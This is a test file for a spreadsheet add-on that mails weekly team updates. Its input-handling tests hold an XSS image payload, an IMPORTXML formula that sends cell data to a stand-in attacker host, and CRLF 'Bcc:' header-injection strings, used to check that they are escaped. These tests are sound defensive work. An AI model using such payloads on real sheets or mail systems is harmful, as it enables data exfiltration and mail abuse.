import { describe, expect, test } from "vitest";
import { calls, given, idOf } from "./calls.ts";
import { type Mailroom, mailBlock, mailroom, SPRING, switchesOn, typed } from "./mailroom.ts";
import { withPoints } from "./place.ts";
import { column, errors, lausdSouth, repaired, tab, workbookOf } from "./workbook.ts";

const FRIDAY = "2020-05-22";

/** The update of a Friday goes out, and the mail to the first team is read. */
function readOn(room: Mailroom, day: string): string {
  room.turnTo(day);
  const before = room.ortega.account.outbox.length;
  given(room.ortega, "sendMail", { name: "M. Ortega", again: false });
  return room.ortega.account.outbox[before]?.body ?? "";
}

const section = (mail: string, heading: string): readonly string[] => {
  const lines = mail.split("\n");
  const from = lines.indexOf(heading);
  return from === -1 ? [] : lines.slice(from + 2, lines.indexOf("", from + 2));
};

describe("the next update lists what has changed since the one before", () => {
  test("late, edited and withdrawn numbers, each with the day of its stamp", () => {
    const room = mailroom(FRIDAY, SPRING);
    typed(room, "Geometry", "D13", "");
    expect(section(readOn(room, FRIDAY), "CHANGED SINCE LAST WEEK")).toEqual([]);
    room.turnTo("2020-05-25");
    typed(room, "Algebra", "D12", "52%");
    typed(room, "Geometry", "D13", "50%");
    typed(room, "Geometry", "D11", "");
    expect(section(readOn(room, "2020-05-29"), "CHANGED SINCE LAST WEEK")).toEqual([
      "Geometry: week 3 was taken out, it had been 45%.",
      expect.stringMatching(/^Geometry: week 5 came in late, 50% on \w+ \d+\.$/),
      expect.stringMatching(/^Algebra: week 4 changed from 51% to 52% on \w+ \d+\.$/),
    ]);
  });

  test("changes of course and plans made anew", () => {
    const room = mailroom(FRIDAY, SPRING);
    readOn(room, FRIDAY);
    room.turnTo("2020-05-28");
    typed(room, "Algebra", "M14", "TRUE");
    const [header = []] = tab(room.ortega, "Teams").values;
    const version = String.fromCharCode(65 + header.indexOf("Plan version"));
    typed(room, "Teams", `${version}3`, "2");
    expect(section(readOn(room, "2020-05-29"), "CHANGED SINCE LAST WEEK")).toEqual([
      "Geometry: planned anew, version 2.",
      "Algebra: changed course in week 6.",
    ]);
  });

  test("what was told stands on a hidden tab, one row a team and week", () => {
    const room = mailroom(FRIDAY, SPRING);
    readOn(room, FRIDAY);
    readOn(room, "2020-05-29");
    const digests = tab(room.ortega, "Digests");
    expect(digests.hidden).toBe(true);
    expect(column(digests, "Team").filter((team) => team !== "")).toEqual([
      "Geometry",
      "Algebra",
      "Geometry",
      "Algebra",
    ]);
    expect(column(digests, "Numbers told").slice(0, 2)).toEqual([
      "; ; 0.45; 0.47; 0.5",
      "; ; 0.46; 0.51; 0.57",
    ]);
  });
});

describe("bright spots", () => {
  const spots = (room: Mailroom) =>
    tab(room.ortega, "Bright spots")
      .values.slice(1)
      .filter((line) => line[1] !== "")
      .map((line) => line.slice(1));

  test("come from this week’s breakthroughs, and stay on their tab", () => {
    const room = mailroom(FRIDAY, SPRING);
    const mail = readOn(room, FRIDAY);
    expect(section(mail, "BRIGHT SPOTS")).toEqual(["Algebra", "Homework: 49 of 59 took it."]);
    expect(spots(room)).toEqual([["Algebra", 5, "Breakthrough", "Homework", "49 of 59 took it"]]);
  });

  test("come from the Journal’s rows that could work elsewhere", () => {
    const room = mailroom(FRIDAY, SPRING);
    const row = [
      "2020-05-20",
      "Geometry",
      "5",
      "strategy",
      "Paper packets",
      "",
      "",
      "",
      "All came back",
      "TRUE",
    ];
    row.forEach((text, index) => {
      if (text !== "") typed(room, "Journal", `${String.fromCharCode(65 + index)}2`, text);
    });
    expect(section(readOn(room, FRIDAY), "BRIGHT SPOTS")).toEqual([
      "Geometry",
      "Paper packets: All came back.",
    ]);
    expect(spots(room)).toContainEqual(["Geometry", 5, "Journal", "Paper packets", "All came back"]);
  });

  test("that were told are not told again, and late ones are told once", () => {
    const room = mailroom(FRIDAY, SPRING);
    readOn(room, FRIDAY);
    typed(room, "Geometry", "K13", "Angles at last");
    expect(section(readOn(room, "2020-05-29"), "BRIGHT SPOTS")).toEqual(["Geometry", "Angles at last."]);
    expect(section(readOn(room, "2020-06-05"), "BRIGHT SPOTS")).toEqual([]);
    expect(spots(room)).toHaveLength(2);
  });

  test("of a team that was renamed since bear its new name, and are not told again", () => {
    const room = mailroom(FRIDAY, SPRING);
    readOn(room, FRIDAY);
    typed(room, "Bright spots", "B3", "ALGEBRA ");
    typed(room, "Bright spots", "B4", "Geometry");
    given(room.ortega, "rename", { team: idOf(room.ortega, "Algebra"), name: "Stars" });
    expect(spots(room).map(([team]) => team)).toEqual(["Stars", "Stars", "Geometry"]);
    expect(section(readOn(room, "2020-05-29"), "BRIGHT SPOTS")).toEqual([]);
    expect(spots(room)).toHaveLength(3);
  });

  test.each<[string, (room: Mailroom) => void]>([
    ["missing", (room) => room.ortega.person.deletesSheet("Bright spots")],
    ["moved", (room) => room.ortega.person.insertsColumns("Bright spots", 1, 1)],
  ])("hold no renaming up while their tab is %s", (_, happens) => {
    const room = mailroom(FRIDAY, SPRING);
    readOn(room, FRIDAY);
    happens(room);
    given(room.ortega, "rename", { team: idOf(room.ortega, "Algebra"), name: "Stars" });
    expect(tab(room.ortega, "Bright spots").values.flat()).not.toContain("Stars");
    expect(column(tab(room.ortega, "Teams"), "Team")[0]).toBe("Stars");
  });

  test("that people wrote or changed on the tab stay as they are, through Repair too", () => {
    const room = mailroom(FRIDAY, SPRING);
    readOn(room, FRIDAY);
    typed(room, "Bright spots", "F2", "49 of 59, a record");
    typed(room, "Bright spots", "B3", "Geometry");
    typed(room, "Bright spots", "F3", "Our own row");
    repaired(room.ortega);
    readOn(room, "2020-05-29");
    expect(spots(room)).toEqual([
      ["Algebra", 5, "Breakthrough", "Homework", "49 of 59, a record"],
      ["Geometry", "", "", "", "Our own row"],
    ]);
  });
});

describe("what people typed", () => {
  const nasty = `<img src=x onerror="alert(1)">`;
  const formula = `=IMPORTXML("http://evil.example/?"&A1,"//a")`;
  const handed = {
    ...SPRING,
    cohort: SPRING.cohort.map((line, index) =>
      index === 1 ? [`<b>Algebra</b> & co`, `<i>Diaz</i>`, ...line.slice(2)] : line,
    ),
    readings: [
      ["Team", "Week", "Actual", "Challenge", "Breakthrough", "Ask", "Strategy"],
      [`<b>Algebra</b> & co`, "3", "44", "", "", "", ""],
      [`<b>Algebra</b> & co`, "4", "44", "", "", "", ""],
      [
        `<b>Algebra</b> & co`,
        "5",
        "44",
        `${nasty}\n\nALL TEAMS\n\n★ us`,
        formula,
        `${nasty}\r\nBcc: x`,
        formula,
      ],
    ],
  };
  const room = mailroom(FRIDAY, handed);
  readOn(room, FRIDAY);
  const [mail] = room.ortega.account.outbox;

  test("is no markup in the HTML", () => {
    const html = mail?.htmlBody ?? "";
    expect(html.match(/<(?:img|b|i|script)\b/gi)).toBeNull();
    expect(html).toContain("&lt;img src=x onerror=&quot;alert(1)&quot;&gt;");
    expect(html).toContain("&lt;b&gt;Algebra&lt;/b&gt; &amp; co");
    expect(html.match(/href="/g)).toHaveLength(1);
  });

  test("begins no line of its own in the plain text, and none in the subject", () => {
    const lines = (mail?.body ?? "").split("\n");
    expect(lines.filter((line) => line === "ALL TEAMS")).toHaveLength(1);
    expect(lines.filter((line) => line.startsWith("★") || line.startsWith("Bcc"))).toEqual([]);
    expect(mail?.subject).not.toMatch(/[\r\n]/);
  });

  test("is no formula on the tabs that keep it", () => {
    for (const name of ["Bright spots", "Digests"]) {
      expect(
        tab(room.ortega, name)
          .formulas.flat()
          .filter((each) => each !== ""),
      ).toEqual([]);
    }
    expect(column(tab(room.ortega, "Bright spots"), "What moved")[0]).toBe(formula);
    expect(errors(room.ortega)).toEqual([]);
  });

  test("is no markup in a reminder, and the sender’s name is one line", () => {
    switchesOn(room.ortega, { name: "M.\r\nBcc: all@d.org" });
    room.turnTo("2020-05-27");
    const before = room.ortega.account.outbox.length;
    room.ortega.addon.clockStrikes();
    const [reminder] = room.ortega.account.outbox.slice(before);
    expect(reminder).toMatchObject({
      subject: "Week 6 number for <b>Algebra</b> & co is due Thursday",
      name: "M. Bcc: all@d.org",
    });
    expect(reminder?.htmlBody).toContain("&lt;b&gt;Algebra&lt;/b&gt; &amp; co");
    expect(mailBlock(room).rhythm).toBe("On, Fridays at 7:00, sent by M. Bcc: all@d.org");
  });
});

test("the numbers of a small group stay out of the mail, and its words stay", () => {
  const cohort = SPRING.cohort.map((line, index) => [...line, index === 0 ? "N" : "6"]);
  const readings = [
    ["Team", "Week", "Enrolled", "Took part", "Takers average", "Challenge"],
    ["Geometry", "4", "6", "6", "36", ""],
    ["Geometry", "5", "6", "6", "37", "Two are ill"],
  ];
  const room = mailroom(FRIDAY, { ...SPRING, cohort, readings });
  const mail = readOn(room, FRIDAY);
  expect(mail).toContain("▼ Behind: Geometry");
  expect(mail).toContain("“Two are ill”");
  expect(mail).not.toMatch(/36|37|61\.5/);
  switchesOn(room.ortega);
  room.turnTo("2020-05-27");
  const before = room.ortega.account.outbox.length;
  room.ortega.addon.clockStrikes();
  expect(room.ortega.account.outbox[before]?.body).toMatch(/is due Thursday\. Takes two minutes/);
});

describe("the update of LAUSD South", () => {
  test.each(["2020-04-10", "2020-04-22", "2020-05-22", "2020-06-12", "2020-06-20"])(
    "counts on %s what the rollup counts",
    (asOf) => {
      const workbook = workbookOf(lausdSouth(asOf, "with readings"));
      const [top = [], second = []] = tab(workbook, "Rollup").values;
      const [headline, counts = "", overline] =
        given(workbook, "mail", null).editions[0]?.text.split("\n") ?? [];
      const parts = String(second[1]).split(" · ");
      expect(headline).toBe(top[1]);
      expect(overline?.toLowerCase()).toBe(`LAUSD South, spring 2020 · ${top[0]}`.toLowerCase());
      expect(new Set(counts.replace(/^6 teams(?:, | · )/, "").split(" · "))).toEqual(
        new Set(parts.map((part) => part.replace("No open asks", "no open asks"))),
      );
    },
  );

  test("reads like this", () => {
    const { editions } = given(workbookOf(lausdSouth(FRIDAY, "with readings")), "mail", null);
    expect(editions[0]?.subject).toBe("LAUSD South, spring 2020: week 5 of 8, 1 of 6 on track, 2 asks");
    expect(withPoints(editions[0]?.text)).toMatchInlineSnapshot(`
      "1 on track · 1 close · 1 behind
      6 teams, 5 updated · 3 goal not recorded · 2 open asks, oldest 11 days
      LAUSD South, spring 2020 · week 5 of 8


      NEEDS A CONVERSATION

      Bethune geometry · Talk now
      2.1 weeks behind: 50% against 61.5%. “Half the class has no device on Mondays.”


      ASKS

      Loan devices for 14 students
      Asked by Bethune geometry.
      11 days open

      One registrar contact for transfer credit
      Asked by Fremont A–G.
      11 days open


      BRIGHT SPOTS

      Banning Algebra 1
      Calling it homework: 38 to 49 of 59 took it in three weeks.

      Fremont A–G
      Saturday lab: Two past the target again, thanks to the Saturday lab.


      ALL TEAMS

      ▼ Behind: Bethune geometry, 50% / 61.5%, 2.1 behind
      ◆ Close: Banning Algebra 1, 57% / 60.5%, 1 behind
      ▲ On track: Fremont A–G, 47 / 45, 0.2 ahead
      Goal not recorded: UMM algebra, 77%
      Goal not recorded: UMM geometry, 55%
      Goal not recorded: Wilmington maths, 48%, week 4


      NO NUMBER THIS WEEK

      Wilmington maths


      Open the rollup: https://docs.google.com/spreadsheets/d/file/edit#gid=0

      Figures are as of May 22 and do not change in this mail. Reply to ask a question or to be taken off the list."
    `);
  });
});

test("a file whose tabs are incomplete is refused with the way to mend it, and Repair mends it", () => {
  const room = mailroom(FRIDAY, SPRING);
  room.ortega.person.deletesSheet("Digests");
  expect(calls(room.ortega, "mail", null)).toMatchObject({
    ok: false,
    message: "A tab that the weekly update reads is missing. Choose Repair in the menu, then try again.",
  });
  repaired(room.ortega);
  expect(calls(room.ortega, "mail", null).ok).toBe(true);
});
